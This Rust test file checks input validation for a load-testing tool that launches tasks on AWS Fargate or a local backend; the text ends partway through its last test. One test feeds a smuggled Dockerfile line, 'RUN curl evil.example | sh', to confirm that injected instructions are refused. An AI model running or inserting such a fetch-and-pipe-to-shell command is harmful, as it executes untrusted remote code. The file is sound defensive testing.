//! Validation of every input at once: the shared plan and the Fargate settings.

use super::*;
use crate::input_error::InputError;
use crate::plan::EnvVar;
use crate::workflow::RunIdentity;
use fargate::{CapacityProvider, Fargate, Network};
use local::Local;

/// The plan and the Fargate settings side by side, as the assertions read them.
#[derive(Debug)]
struct View {
    region: Option<String>,
    network: Network,
    capacity_provider: CapacityProvider,
    platform_version: String,
    cpu: Option<u32>,
    memory: Option<u32>,
    timeout_seconds: u64,
    wait: bool,
    identity: RunIdentity,
    tasks: Vec<TaskSpec>,
}

/// A task's variable by name.
trait Env {
    fn env(&self, name: &str) -> Option<&str>;
}

impl Env for TaskSpec {
    fn env(&self, name: &str) -> Option<&str> {
        self.environment
            .iter()
            .find(|var| var.name == name)
            .map(|var| var.value.as_str())
    }
}

impl View {
    fn task_count(&self) -> usize {
        self.tasks.len()
    }
}

fn plan(inputs: &Inputs, workflow: &WorkflowEnv) -> Result<View, InvalidInputs> {
    let Configured {
        plan,
        settings: fargate,
    } = configure::<Fargate>(inputs, workflow)?;
    Ok(View {
        region: plan.region,
        network: fargate.places[0].network.clone(),
        capacity_provider: fargate.capacity_provider,
        platform_version: fargate.platform_version,
        cpu: fargate.cpu,
        memory: fargate.memory,
        timeout_seconds: plan.timeout_seconds,
        wait: plan.wait,
        identity: plan.identity,
        tasks: plan.tasks,
    })
}

fn valid() -> Inputs {
    Inputs {
        cluster: Some("load".into()),
        task_definition: Some("tester".into()),
        subnets: Some("subnet-0123abcd".into()),
        image: Some("registry.example/tester:1".into()),
        ..Default::default()
    }
}

fn context() -> WorkflowEnv {
    WorkflowEnv {
        repository: Some("acme/shop".into()),
        run_id: Some("123456789".into()),
        run_attempt: Some("2".into()),
        sha: Some("0123456789abcdef".into()),
        aws_region: Some("eu-west-1".into()),
        invocation_id: "abc".into(),
        ..Default::default()
    }
}

fn errors(inputs: Inputs) -> Vec<InputError> {
    plan(&inputs, &context())
        .expect_err("inputs should be refused")
        .0
}

fn only_error(inputs: Inputs) -> InputError {
    let mut all = errors(inputs);
    assert_eq!(all.len(), 1, "{all:?}");
    all.remove(0)
}

#[test]
fn defaults() {
    let plan = plan(&valid(), &context()).unwrap();
    assert_eq!(plan.region.as_deref(), Some("eu-west-1"));
    assert_eq!(plan.task_count(), 1);
    assert!(plan.network.assign_public_ip);
    assert_eq!(plan.capacity_provider, CapacityProvider::Fargate);
    assert_eq!(plan.platform_version, "LATEST");
    assert_eq!(plan.timeout_seconds, 3600);
    assert!(plan.wait);
    assert_eq!(plan.identity.started_by, "ecs-loadtest-123456789-2");
    assert_eq!(
        plan.tasks[0].environment,
        vec![
            EnvVar::new("TASK_INDEX", "0"),
            EnvVar::new("TASK_COUNT", "1"),
        ]
    );
}

#[test]
fn every_missing_required_input_is_reported_at_once() {
    let all = errors(Inputs::default());
    let names: Vec<&str> = all.iter().map(|error| error.input).collect();
    // Without `image`, the image is built, and pushed to `ecr-repository`.
    assert_eq!(
        names,
        ["cluster", "task-definition", "subnets", "ecr-repository"]
    );
    assert!(all.iter().all(|error| error.given.is_empty()));
    assert!(
        all[0]
            .to_string()
            .starts_with("input `cluster` is required")
    );
}

#[test]
fn bad_values_name_input_value_and_what_is_accepted() {
    type Case = (
        fn(&mut Inputs, &str),
        &'static str,
        &'static str,
        &'static str,
    );
    let table: &[Case] = &[
        (
            |i, v| i.task_count = Some(v.into()),
            "0",
            "task-count",
            "from 1 to 1000",
        ),
        (
            |i, v| i.task_count = Some(v.into()),
            "1001",
            "task-count",
            "from 1 to 1000",
        ),
        (
            |i, v| i.task_count = Some(v.into()),
            "ten",
            "task-count",
            "from 1 to 1000",
        ),
        (
            |i, v| i.duration = Some(v.into()),
            "5 minutes",
            "duration",
            "`5m`",
        ),
        (|i, v| i.duration = Some(v.into()), "-1", "duration", "`5m`"),
        (
            |i, v| i.duration = Some(v.into()),
            "0s",
            "duration",
            "positive",
        ),
        (
            |i, v| i.environment = Some(v.into()),
            "NOEQUALS",
            "environment",
            "KEY=VALUE",
        ),
        (
            |i, v| i.environment = Some(v.into()),
            "=value",
            "environment",
            "KEY=VALUE",
        ),
        (
            |i, v| i.assign_public_ip = Some(v.into()),
            "yes",
            "assign-public-ip",
            "`true` or `false`",
        ),
        (
            |i, v| i.wait = Some(v.into()),
            "1",
            "wait",
            "`true` or `false`",
        ),
        (
            |i, v| i.thresholds = Some(v.into()),
            "p95 < fast",
            "thresholds",
            "`fast` is not a number",
        ),
        (
            |i, v| i.thresholds = Some(v.into()),
            "p95 < 500ms\nlatency < 1s",
            "thresholds",
            "METRIC OP VALUE",
        ),
        (
            |i, v| i.comment = Some(v.into()),
            "maybe",
            "comment",
            "`true` or `false`",
        ),
        (
            |i, v| i.comment_tag = Some(v.into()),
            "a-->b",
            "comment-tag",
            "HTML comment",
        ),
        (
            |i, v| i.log_mode = Some(v.into()),
            "tail",
            "log-mode",
            "`grouped` or `interleaved`",
        ),
        (
            |i, v| i.capacity_provider = Some(v.into()),
            "EC2",
            "capacity-provider",
            "FARGATE_SPOT",
        ),
        (
            |i, v| i.timeout_minutes = Some(v.into()),
            "0",
            "timeout-minutes",
            "greater than 0",
        ),
        (
            |i, v| i.timeout_minutes = Some(v.into()),
            "10000",
            "timeout-minutes",
            "at most 2880",
        ),
        (
            |i, v| i.command = Some(v.into()),
            "[\"k6\", \"run\"",
            "command",
            "JSON array",
        ),
        (
            |i, v| i.command = Some(v.into()),
            "[1, 2]",
            "command",
            "JSON array",
        ),
        (
            |i, v| i.command = Some(v.into()),
            "k6 'run",
            "command",
            "shell",
        ),
        (|i, v| i.cpu = Some(v.into()), "two", "cpu", "1024"),
        (|i, v| i.cpu = Some(v.into()), "300", "cpu", "1024"),
        (|i, v| i.memory = Some(v.into()), "2GB", "memory", "MiB"),
        (
            |i, v| i.subnets = Some(v.into()),
            "subnet-1, vpc-12345678",
            "subnets",
            "subnet-",
        ),
        (
            |i, v| i.security_groups = Some(v.into()),
            "default",
            "security-groups",
            "sg-",
        ),
        (
            |i, v| i.target_url = Some(v.into()),
            "staging.example.com",
            "target-url",
            "absolute URL",
        ),
        (|i, v| i.vus = Some(v.into()), "-5", "vus", "virtual users"),
        (
            |i, v| i.rate = Some(v.into()),
            "1.5",
            "rate",
            "requests per second",
        ),
        (
            |i, v| i.aws_region = Some(v.into()),
            "Europe",
            "aws-region",
            "us-east-1",
        ),
        (
            |i, v| i.platform_version = Some(v.into()),
            "latest",
            "platform-version",
            "LATEST",
        ),
        (
            |i, v| i.task_definition = Some(v.into()),
            "tester:one",
            "task-definition",
            "revision",
        ),
        (
            |i, v| i.cluster = Some(v.into()),
            "my cluster",
            "cluster",
            "cluster name",
        ),
        (
            |i, v| i.container_name = Some(v.into()),
            "a/b",
            "container-name",
            "container name",
        ),
    ];
    for (set, value, input, accepted) in table {
        let mut inputs = valid();
        set(&mut inputs, value);
        let all = errors(inputs);
        let error = all
            .iter()
            .find(|error| error.input == *input)
            .unwrap_or_else(|| panic!("{input}={value}: no error for it in {all:?}"));
        if crate::input_error::SECRET_INPUTS.contains(input) {
            // Named by its shape, never its value.
            let shown = value.split_once('=').map_or("", |(name, _)| name);
            assert!(
                error.given.starts_with(shown) && error.given.contains("characters, not shown>"),
                "{input}={value}: given {:?}",
                error.given
            );
            continue;
        }
        assert!(
            !error.given.is_empty()
                && value.contains(error.given.split(',').next().unwrap().trim()),
            "{input}={value}: given {:?}",
            error.given
        );
        assert!(
            error.accepted.contains(accepted),
            "{input}={value}: accepted {:?} does not say {accepted:?}",
            error.accepted
        );
    }
}

#[test]
fn several_bad_inputs_are_all_reported() {
    let mut inputs = valid();
    inputs.task_count = Some("ten".into());
    inputs.duration = Some("5 minutes".into());
    inputs.wait = Some("maybe".into());
    let names: Vec<&str> = errors(inputs).iter().map(|error| error.input).collect();
    assert_eq!(names, ["task-count", "duration", "wait"]);
}

#[test]
fn splits_load_exactly_across_tasks() {
    let mut inputs = valid();
    inputs.task_count = Some("3".into());
    inputs.vus = Some("100".into());
    inputs.rate = Some("50".into());
    inputs.duration = Some("5m".into());
    inputs.target_url = Some("https://staging.example.com/".into());
    let plan = plan(&inputs, &context()).unwrap();
    let column = |name: &str| -> Vec<&str> {
        plan.tasks
            .iter()
            .map(|task| task.env(name).unwrap())
            .collect()
    };
    assert_eq!(column("VUS"), ["34", "33", "33"]);
    assert_eq!(column("RATE"), ["17", "17", "16"]);
    assert_eq!(column("DURATION"), ["300", "300", "300"]);
    assert_eq!(column("TASK_INDEX"), ["0", "1", "2"]);
    assert_eq!(column("TASK_COUNT"), ["3", "3", "3"]);
    assert_eq!(column("TARGET_URL"), ["https://staging.example.com/"; 3]);
}

#[test]
fn a_total_smaller_than_the_task_count_is_refused() {
    let mut inputs = valid();
    inputs.task_count = Some("4".into());
    inputs.vus = Some("3".into());
    let error = only_error(inputs);
    assert_eq!((error.input, error.given.as_str()), ("vus", "3"));
}

/// Lengths that add up past any number are refused by the timeout, not wrapped or panicking.
#[test]
fn lengths_that_overflow_when_added_are_refused() {
    let mut inputs = valid();
    inputs.stages = Some("18446744073709551615s:10, 18446744073709551615s:10".into());
    assert_eq!(only_error(inputs).input, "timeout-minutes");
    let mut inputs = valid();
    inputs.duration = Some("18446744073709551615".into());
    inputs.start_delay = Some("18446744073709551615".into());
    assert_eq!(only_error(inputs).input, "timeout-minutes");
}

#[test]
fn environment_lines() {
    let mut inputs = valid();
    inputs.environment = Some("A=1\n\n  B = two=2\nA=3\nEMPTY=\n".into());
    let plan = plan(&inputs, &context()).unwrap();
    let task = &plan.tasks[0];
    assert_eq!(task.env("A"), Some("3"));
    assert_eq!(task.env("B"), Some(" two=2"));
    assert_eq!(task.env("EMPTY"), Some(""));
}

#[test]
fn environment_may_not_set_what_the_action_sets() {
    let mut inputs = valid();
    inputs.environment = Some("TASK_INDEX=7\nVUS=3".into());
    // VUS is free while the `vus` input is not given.
    assert_eq!(
        only_error(inputs.clone()).given,
        "TASK_INDEX=<1 characters, not shown>"
    );
    inputs.environment = Some("VUS=3".into());
    inputs.vus = Some("10".into());
    assert_eq!(only_error(inputs).input, "environment");
}

#[test]
fn insecure_tls_comes_only_from_its_input() {
    // Through `environment` it would turn certificate checks off with the report saying nothing.
    for value in ["true", "false"] {
        let mut inputs = valid();
        inputs.environment = Some(format!("INSECURE_TLS={value}"));
        let error = only_error(inputs);
        assert_eq!(error.input, "environment");
        assert!(error.accepted.contains("`insecure-tls: true`"), "{error}");
    }
}

#[test]
fn what_goes_into_a_dockerfile_is_one_line() {
    for (name, set) in [
        (
            "script",
            (|inputs: &mut Inputs, value: &str| inputs.script = Some(value.into()))
                as fn(&mut Inputs, &str),
        ),
        ("image", |inputs, value| inputs.image = Some(value.into())),
        ("generator-image", |inputs, value| {
            inputs.generator_image = Some(value.into())
        }),
        ("tester-image", |inputs, value| {
            inputs.tester_image = Some(value.into())
        }),
        ("dockerfile", |inputs, value| {
            inputs.dockerfile = Some(value.into())
        }),
        ("target", |inputs, value| inputs.target = Some(value.into())),
    ] {
        for hostile in [
            "grafana/k6\nRUN curl evil.example | sh",
            "load\r.js",
            "a\u{0}b",
        ] {
            let mut inputs = valid();
            set(&mut inputs, hostile);
            let Err(InvalidInputs(errors)) = plan(&inputs, &context()) else {
                panic!("{name}: {hostile:?} was accepted");
            };
            let error = errors
                .iter()
                .find(|error| error.input == name)
                .unwrap_or_else(|| panic!("{name}: {errors:?}"));
            assert!(
                error.accepted.contains("without control characters"),
                "{error}"
            );
            assert!(!error.to_string().contains('\n'), "{error}");
        }
    }
}

#[test]
fn region_falls_back_to_the_environment() {
    let mut context = context();
    context.aws_region = None;
    context.aws_default_region = Some("ap-south-1".into());
    assert_eq!(
        plan(&valid(), &context).unwrap().region.as_deref(),
        Some("ap-south-1")
    );
    let mut inputs = valid();
    inputs.aws_region = Some("us-west-2".into());
    assert_eq!(
        plan(&inputs, &context).unwrap().region.as_deref(),
        Some("us-west-2")
    );
}

#[test]
fn accepted_forms() {
    let mut inputs = valid();
    inputs.task_definition =
        Some("arn:aws:ecs:us-east-1:123456789012:task-definition/tester:4".into());
    inputs.cluster = Some("arn:aws:ecs:us-east-1:123456789012:cluster/load".into());
    inputs.capacity_provider = Some("fargate_spot".into());
    inputs.timeout_minutes = Some("0.5".into());
    inputs.platform_version = Some("1.4.0".into());
    inputs.security_groups = Some("sg-0123456789abcdef0".into());
    inputs.cpu = Some("1024".into());
    inputs.memory = Some("2048".into());
    let plan = plan(&inputs, &context()).unwrap();
    assert_eq!(plan.capacity_provider, CapacityProvider::FargateSpot);
    assert_eq!(plan.timeout_seconds, 30);
    assert_eq!((plan.cpu, plan.memory), (Some(1024), Some(2048)));
}

#[test]
fn identity_outside_github_actions() {
    let context = WorkflowEnv {
        invocation_id: "0123456789ab".into(),
        ..Default::default()
    };
    let plan = plan(&valid(), &context).unwrap();
    assert_eq!(plan.identity.started_by, "ecs-loadtest-cli-0123456789ab");
    assert!(plan.identity.started_by.len() <= 36);
    assert_eq!(plan.region, None);
}

#[test]
fn the_ignored_inputs_notice_names_only_inputs_changed_from_their_defaults() {
    // The runner passes every default as if typed: `context` is always given.
    let mut inputs = valid();
    inputs.context = Some(".".into());
    let configured = configure::<Fargate>(&inputs, &context()).unwrap();
    assert_eq!(configured.plan.notices, Vec::<String>::new());

    inputs.dockerfile = Some("load/Dockerfile".into());
    inputs.ecr_repository = Some("tester".into());
    let configured = configure::<Fargate>(&inputs, &context()).unwrap();
    assert_eq!(
        configured.plan.notices,
        ["`image` is given, so nothing is built: `dockerfile`, `ecr-repository` ignored"]
    );
}

/// The tester each combination of inputs runs, and the reason the log gives.
#[test]
fn the_tester_is_chosen_explicitly_and_a_stray_dockerfile_never_replaces_the_generator() {
    let service = tempfile::tempdir().unwrap();
    std::fs::write(service.path().join("Dockerfile"), "FROM scratch\n").unwrap();
    let directory = service.path().display().to_string();
    let with = |changes: &[(&str, &str)]| {
        let mut inputs = valid();
        inputs.image = None;
        inputs.context = Some(directory.clone());
        inputs.ecr_repository = Some("tester".into());
        inputs.generator_image = Some("ghcr.io/acme/ecs-loadtest:v1".into());
        for (name, value) in changes {
            assert!(inputs.set(name, value), "{name}");
        }
        configure::<Fargate>(&inputs, &context())
    };
    let url = ("target-url", "https://staging.example.com/");
    let rate = [url, ("rate", "10"), ("duration", "1m")];
    let kind = |changes: &[(&str, &str)]| {
        let configured = with(changes).unwrap();
        let kind = match configured.plan.image {
            ImageSource::Generator { .. } => "generate",
            ImageSource::Build(_) => "dockerfile",
            ImageSource::Given(_) => "image",
            ImageSource::Script(_) => "k6",
        };
        (kind, configured.plan.tester)
    };
    // A service repository's own Dockerfile sits in the context: `target-url` still means the
    // generator (it built the service before).
    let (tester, why) = kind(&rate);
    assert_eq!(tester, "generate");
    assert_eq!(
        why,
        "Tester: the built-in load generator (`target-url` is given, and neither `image` nor `dockerfile`)"
    );
    // Nothing asked for, and a Dockerfile: built, as before.
    let (tester, why) = kind(&[]);
    assert_eq!(tester, "dockerfile");
    assert!(
        why.contains("holds a Dockerfile and no `target-url` is given"),
        "{why}"
    );
    // `dockerfile` given, or `tester` named.
    assert_eq!(kind(&[url, ("dockerfile", "Dockerfile")]).0, "dockerfile");
    let (tester, why) = kind(&[url, ("tester", "dockerfile")]);
    assert_eq!(
        (tester, why.as_str()),
        (
            "dockerfile",
            format!("Tester: built from `Dockerfile` in `{directory}` (`tester` is `dockerfile`)")
                .as_str()
        )
    );
    assert_eq!(
        kind(&[
            ("tester", "Generate"),
            url,
            ("vus", "2"),
            ("duration", "1m")
        ])
        .0,
        "generate"
    );
    assert_eq!(kind(&[("image", "repo/tester:1")]).0, "image");
    assert_eq!(
        kind(&[("tester", "image"), ("image", "repo/tester:1")]).0,
        "image"
    );
    // What cannot be.
    for (changes, input) in [
        (&[("tester", "k9")][..], "tester"),
        (&[("tester", "image")][..], "image"),
        (
            &[("tester", "generate"), ("image", "repo/tester:1")][..],
            "image",
        ),
    ] {
        let Err(invalid) = with(changes) else {
            panic!("{changes:?} was accepted")
        };
        assert!(
            invalid.0.iter().any(|problem| problem.input == input),
            "{changes:?}: {invalid}"
        );
    }
}

#[test]
fn without_image_or_dockerfile_the_tasks_run_the_built_in_generator() {
    let empty = tempfile::tempdir().unwrap();
    let mut inputs = valid();
    inputs.image = None;
    inputs.context = Some(empty.path().display().to_string());
    inputs.generator_image = Some("ghcr.io/acme/ecs-loadtest:v1".into());
    inputs.target_url = Some("https://staging.example.com/".into());
    inputs.task_count = Some("3".into());
    inputs.stages = Some("30s:200, 2m:200, 30s:0".into());
    inputs.method = Some("post".into());
    inputs.success_statuses = Some("2xx, 404".into());
    inputs.http2_streams = Some("10".into());
    let configured = configure::<Fargate>(&inputs, &context()).unwrap();
    let plan = &configured.plan;
    assert_eq!(
        plan.image,
        ImageSource::Generator {
            image: Some("ghcr.io/acme/ecs-loadtest:v1".into())
        }
    );
    assert_eq!(
        plan.load.command.as_deref(),
        Some(&["generate".to_string()][..])
    );
    // No ECR repository is needed to run the action's own image.
    assert_eq!(configured.settings.places[0].ecr_repository, None);
    let stages: Vec<&str> = plan
        .tasks
        .iter()
        .map(|task| task.env("STAGES").unwrap())
        .collect();
    assert_eq!(
        stages,
        [
            "30s:67,120s:67,30s:0",
            "30s:67,120s:67,30s:0",
            "30s:66,120s:66,30s:0"
        ]
    );
    assert_eq!(plan.tasks[2].env("METHOD"), Some("POST"));
    assert_eq!(plan.tasks[2].env("SUCCESS_STATUSES"), Some("200-299,404"));
    // Streams a connection are a connection's, not the load's: every task gets the same.
    assert_eq!(plan.tasks[2].env("HTTP2_STREAMS"), Some("10"));
    let mut refused = inputs.clone();
    refused.http2_streams = Some("0".into());
    let names: Vec<&str> = errors(refused).iter().map(|error| error.input).collect();
    assert_eq!(names, ["http2-streams"]);

    // The generator needs a URL and a load.
    inputs.target_url = None;
    inputs.stages = None;
    let names: Vec<&str> = errors(inputs.clone())
        .iter()
        .map(|error| error.input)
        .collect();
    assert_eq!(names, ["target-url", "rate", "duration"]);
    // And the action's own image, which a development build does not name.
    inputs.generator_image = None;
    let names: Vec<&str> = errors(inputs).iter().map(|error| error.input).collect();
    assert!(names.contains(&"generator-image"), "{names:?}");
}

#[test]
fn stages_replace_rate_and_duration_and_must_reach_every_task() {
    let mut inputs = valid();
    inputs.stages = Some("10s:2".into());
    inputs.task_count = Some("3".into());
    inputs.duration = Some("1m".into());
    inputs.rate = Some("10".into());
    let names: Vec<&str> = errors(inputs.clone())
        .iter()
        .map(|error| error.input)
        .collect();
    assert_eq!(names, ["duration", "rate", "stages"]);
    inputs.stages = Some("10s:5vus".into());
    inputs.rate = None;
    inputs.duration = None;
    inputs.vus = Some("5".into());
    let error = only_error(inputs);
    assert_eq!((error.input, error.given.as_str()), ("vus", "5"));
}

#[test]
fn the_load_must_fit_in_the_timeout() {
    let mut inputs = valid();
    inputs.duration = Some("10m".into());
    inputs.start_delay = Some("1m".into());
    inputs.timeout_minutes = Some("10".into());
    let error = only_error(inputs.clone());
    assert_eq!(error.input, "timeout-minutes");
    assert!(error.accepted.contains("660 s"), "{}", error.accepted);
    inputs.timeout_minutes = Some("12".into());
    assert!(configure::<Fargate>(&inputs, &context()).is_ok());
}

#[test]
fn a_start_delay_of_zero_may_carry_a_unit() {
    for (given, seconds) in [("0", 0), ("0s", 0), ("00m", 0), ("90s", 90), ("2m", 120)] {
        let mut inputs = valid();
        inputs.start_delay = Some(given.into());
        let configured = configure::<Fargate>(&inputs, &context()).unwrap();
        assert_eq!(
            configured.plan.load.start_delay_seconds,
            Some(seconds),
            "{given}"
        );
    }
    for given in ["s", "0x", "0ss", "-0s"] {
        let mut inputs = valid();
        inputs.start_delay = Some(given.into());
        let error = only_error(inputs);
        assert_eq!((error.input, error.given.as_str()), ("start-delay", given));
    }
}

#[test]
fn the_local_backend_needs_no_aws_inputs_and_reads_the_task_size_as_limits() {
    let mut inputs = Inputs {
        image: Some("tester:1".into()),
        cpu: Some("512".into()),
        memory: Some("64".into()),
        ..Default::default()
    };
    let configured = configure::<Local>(&inputs, &context()).unwrap();
    assert_eq!(
        configured.settings,
        local::Settings {
            cpu: Some(512),
            memory: Some(64),
            in_process: false
        }
    );

    inputs.cpu = Some("half".into());
    inputs.memory = Some("4".into());
    let refused = configure::<Local>(&inputs, &context()).unwrap_err().0;
    let named: Vec<(&str, &str)> = refused
        .iter()
        .map(|error| (error.input, error.given.as_str()))
        .collect();
    assert_eq!(named, [("cpu", "half"), ("memory", "4")]);
    assert!(refused[1].accepted.contains("at least 6"), "{refused:?}");
}

#[test]
fn the_local_generator_runs_in_this_process_and_must_be_waited_for() {
    let empty = tempfile::tempdir().unwrap();
    let mut inputs = Inputs {
        context: Some(empty.path().display().to_string()),
        target_url: Some("http://127.0.0.1:8080/".into()),
        rate: Some("100".into()),
        duration: Some("10s".into()),
        ..Default::default()
    };
    // No generator image is needed: nothing is pulled or pushed.
    let configured = configure::<Local>(&inputs, &context()).unwrap();
    assert!(configured.settings.in_process);
    assert_eq!(
        configured.plan.image,
        ImageSource::Generator { image: None }
    );

    inputs.wait = Some("false".into());
    let refused = configure::<Local>(&inputs, &context()).unwrap_err().0;
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(
        (refused[0].input, refused[0].given.as_str()),
        ("wait", "false")
    );
}

#[test]
fn an_unknown_backend_is_refused_with_the_ones_there_are() {
    struct Nothing;
    impl Pipeline for Nothing {
        type Output = ();
        async fn with<B: Backend>(self) {}
    }
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let refused = runtime
        .block_on(dispatch::dispatch(&Some("kubernetes".into()), Nothing))
        .unwrap_err()
        .0;
    assert_eq!(refused[0].input, "backend");
    assert_eq!(refused[0].given, "kubernetes");
    assert!(
        refused[0].accepted.contains("`local`"),
        "{}",
        refused[0].accepted
    );
}

#[test]
fn the_local_backend_names_the_fargate_inputs_it_ignores() {
    let inputs = Inputs {
        image: Some("tester:1".into()),
        cluster: Some("load".into()),
        subnets: Some("subnet-1".into()),
        // The defaults the runner passes were not typed by the user.
        assign_public_ip: Some("true".into()),
        capacity_provider: Some("FARGATE_SPOT".into()),
        ..Default::default()
    };
    let configured = configure::<Local>(&inputs, &context()).unwrap();
    assert_eq!(
        configured.plan.notices,
        [
            "the local backend starts no Fargate task: `cluster`, `subnets`, `capacity-provider` ignored"
        ]
    );
}

/// An input value: anything, or something shaped like what some input takes, so that the
/// checks behind the first one are reached too.
fn input_value() -> impl proptest::strategy::Strategy<Value = String> {
    proptest::prop_oneof![
        ".*",
        "[0-9]{0,8}",
        "[0-9]{1,6}(ms|s|m|h)",
        "(true|false|yes|no|TRUE)",
        "(fargate|local|FARGATE|FARGATE_SPOT|interleaved|grouped|auto|1\\.1|2|GET|POST)",
        "[a-z0-9-]{1,12}(,[a-z0-9-]{1,12}){0,3}",
        "(https?|ftp)://[a-z0-9.:\\[\\]]{0,20}/[a-z]{0,5}",
        "[0-9]{1,5}s:[0-9]{1,6}(vus)?(, [0-9]{1,5}s:[0-9]{1,6}(vus)?){0,3}",
        "(p95|p99|error_rate|rps) (<|>) [-+]?[0-9]{1,4}(ms|%|pp)?",
        "[A-Za-z_-]{1,8}(=|: )[a-z]{0,5}(\\n[A-Za-z_-]{1,8}(=|: )[a-z]{0,5}){0,3}",
        "arn:aws:[a-z]{0,4}:[a-z0-9-]{0,10}:[0-9]{0,12}:[a-z/-]{0,12}",
    ]
}

proptest::proptest! {
    #[test]
    fn any_inputs_are_judged_without_panicking(
        values in proptest::collection::vec((0usize..64, input_value()), 0..24),
        valid_first in proptest::prelude::any::<bool>(),
    ) {
        let base = if valid_first { valid() } else { Inputs::default() };
        let serde_json::Value::Object(mut fields) = serde_json::to_value(base).unwrap() else {
            unreachable!("inputs serialize as an object");
        };
        let names = Inputs::names();
        proptest::prop_assert!(names.len() > 40, "inputs: {names:?}");
        for (choice, value) in values {
            fields.insert(names[choice % names.len()].clone(), value.into());
        }
        let inputs: Inputs = serde_json::from_value(fields.into()).unwrap();
        let workflow = WorkflowEnv {
            run_id: Some("123456789".into()),
            run_attempt: Some("2".into()),
            ..WorkflowEnv::default()
        };
        let _ = configure::<Fargate>(&inputs, &workflow);
        let _ = configure::<Local>(&inputs, &workflow);
    }
}

fn three_regions() -> Inputs {
    Inputs {
        task_count: Some("7".into()),
        rate: Some("100".into()),
        regions: Some("us-east-1: 50%\neu-west-1: 30%\nap-southeast-2: 20%".into()),
        region_settings: Some(
            r#"{"eu-west-1": {"cluster": "lt-eu", "subnets": ["subnet-0123abce", "subnet-0123abcf"], "assign-public-ip": false},
                "ap-southeast-2": {"cluster": "lt-ap", "task-definition": "tester-ap:3", "security-groups": "sg-0123abcd"}}"#
                .into(),
        ),
        ..valid()
    }
}

#[test]
fn each_region_has_its_place_and_its_tasks() {
    let configured = configure::<Fargate>(&three_regions(), &context()).unwrap();
    let places: Vec<_> = configured
        .settings
        .places
        .iter()
        .map(|place| {
            (
                place.region.as_deref().unwrap(),
                place.cluster.as_str(),
                place.task_definition.as_str(),
                place.network.subnets.join(","),
                place.network.security_groups.join(","),
                place.network.assign_public_ip,
            )
        })
        .collect();
    // What a region's settings do not set comes from the input of the same name.
    assert_eq!(
        places,
        [
            (
                "us-east-1",
                "load",
                "tester",
                "subnet-0123abcd".into(),
                String::new(),
                true
            ),
            (
                "eu-west-1",
                "lt-eu",
                "tester",
                "subnet-0123abce,subnet-0123abcf".into(),
                String::new(),
                false
            ),
            (
                "ap-southeast-2",
                "lt-ap",
                "tester-ap:3",
                "subnet-0123abcd".into(),
                "sg-0123abcd".into(),
                true
            ),
        ]
    );
    let plan = &configured.plan;
    let regions: Vec<_> = plan
        .tasks
        .iter()
        .map(|task| task.region.as_deref().unwrap())
        .collect();
    assert_eq!(
        regions,
        [
            "us-east-1",
            "us-east-1",
            "us-east-1",
            "us-east-1",
            "eu-west-1",
            "eu-west-1",
            "ap-southeast-2"
        ]
    );
    // Every total is split across the tasks by the one rule, whatever their region.
    let rates: Vec<&str> = plan
        .tasks
        .iter()
        .map(|task| task.env("RATE").unwrap())
        .collect();
    assert_eq!(rates, ["15", "15", "14", "14", "14", "14", "14"]);
    assert!(
        plan.notices
            .iter()
            .any(|notice| notice.contains("us-east-1 4 task(s) (57 %)"))
    );
}

#[test]
fn the_regions_start_their_tasks_in_turn() {
    let configured = configure::<Fargate>(&three_regions(), &context()).unwrap();
    let order: Vec<usize> = configured
        .plan
        .launch_order()
        .iter()
        .map(|spec| spec.index)
        .collect();
    // us-east-1 holds 0 to 3, eu-west-1 4 and 5, ap-southeast-2 6.
    assert_eq!(order, [0, 4, 6, 1, 5, 2, 3]);
    let one = configure::<Fargate>(
        &Inputs {
            task_count: Some("3".into()),
            ..valid()
        },
        &context(),
    )
    .unwrap();
    let order: Vec<usize> = one
        .plan
        .launch_order()
        .iter()
        .map(|spec| spec.index)
        .collect();
    assert_eq!(order, [0, 1, 2]);
}

#[test]
fn region_settings_problems_name_the_region_and_the_key() {
    let refused = |settings: &str| -> Vec<String> {
        errors(Inputs {
            region_settings: Some(settings.into()),
            ..three_regions()
        })
        .iter()
        .map(ToString::to_string)
        .collect()
    };
    assert_eq!(
        refused(r#"{"eu-west-1": {"cluster": "lt", "subnet": "subnet-0123abcd"}}"#),
        [
            "input `region-settings`: got `eu-west-1: subnet`; expected keys among cluster, task-definition, container-name, subnets, security-groups, assign-public-ip, ecr-repository"
        ]
    );
    assert_eq!(
        refused(r#"{"eu-west-1": {"subnets": ["subnet-nothex00"]}}"#),
        [
            "input `region-settings`: got `eu-west-1: subnets: subnet-nothex00`; expected IDs of the form `subnet-0123456789abcdef0`"
        ]
    );
    assert_eq!(
        refused(r#"{"eu-central-1": {"cluster": "lt"}}"#),
        [
            "input `region-settings`: got `eu-central-1: …`; expected settings only for the regions `regions` names (us-east-1, eu-west-1, ap-southeast-2); `eu-central-1` is not one of them"
        ]
    );
    assert_eq!(
        refused(r#"{"eu-west-1": {"assign-public-ip": 3}}"#),
        [
            "input `region-settings`: got `eu-west-1: assign-public-ip: 3`; expected a string, a list of strings or a boolean"
        ]
    );
    assert!(
        refused("[1]")[0].starts_with(
            "input `region-settings`: got `[1]`; expected a JSON object keyed by region"
        )
    );
    // A region without settings falls back to the input: with no input, the region is named.
    let missing: Vec<String> = errors(Inputs {
        cluster: None,
        ..three_regions()
    })
    .iter()
    .map(ToString::to_string)
    .collect();
    assert_eq!(
        missing,
        [
            "input `cluster` is required: an ECS cluster name or ARN (for region us-east-1: set `cluster` in its `region-settings` or give the input)"
        ]
    );
    // Settings without `regions`.
    let error = only_error(Inputs {
        region_settings: Some(r#"{"eu-west-1": {}}"#.into()),
        ..valid()
    });
    assert_eq!(error.input, "region-settings");
}

#[test]
fn a_threshold_reads_a_region_the_run_has() {
    let configured = configure::<Fargate>(
        &Inputs {
            thresholds: Some(
                "p95{region=eu-west-1} < 300ms\nerror_rate{region=ap-southeast-2,name=home} < 1%"
                    .into(),
            ),
            ..three_regions()
        },
        &context(),
    )
    .unwrap();
    let rules: Vec<_> = configured
        .plan
        .thresholds
        .iter()
        .map(|rule| (rule.region.as_deref(), rule.name.as_deref()))
        .collect();
    assert_eq!(
        rules,
        [
            (Some("eu-west-1"), None),
            (Some("ap-southeast-2"), Some("home"))
        ]
    );
    let error = only_error(Inputs {
        thresholds: Some("p95{region=eu-central-1} < 300ms".into()),
        ..three_regions()
    });
    assert_eq!(
        error.to_string(),
        "input `thresholds`: got `p95{region=eu-central-1} < 300ms`; expected a region the `regions` input names (us-east-1, eu-west-1, ap-southeast-2); `eu-central-1` is not one"
    );
}

#[test]
fn the_local_backend_refuses_regions() {
    let mut inputs = three_regions();
